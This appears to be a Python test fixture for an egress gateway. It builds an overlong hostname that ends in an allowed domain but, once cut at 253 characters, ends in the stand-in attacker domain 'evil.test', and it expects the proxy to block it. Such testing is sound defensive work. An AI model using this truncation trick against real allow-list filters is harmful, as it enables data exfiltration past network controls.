"""A name that is longer than names may be, cut where a buffer ends.

The whole text ends in the permitted domain. A program that keeps 253 characters is left with a
name that ends in the attacker's.

Not covered: long names that stay within the limits and are unlisted.
"""

ATTACK = {
    "title": "Overlong name whose cut form is another",
    "group": "names",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-1284", "CWE-222", "RFC 1035 section 2.3.4"],
    "rules": "  - allow: '*.allowed.test'\n    ports: [80, 443]\n",
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}, {"what": "question", "name": "*.evil.test"}],
    "stopped": [{"reason": ["malformed-host"], "entry": ["http-proxy"], "where": {"raw": "*.evil.test*"}}],
}

KEPT = ("a" * 60 + ".") * 4 + "evil.test"
HOST = KEPT + ".allowed.test"


def attempt(kit):
    kit.talk(HOST, 80, kit.get("/", "evil.test"), entry="http-proxy")
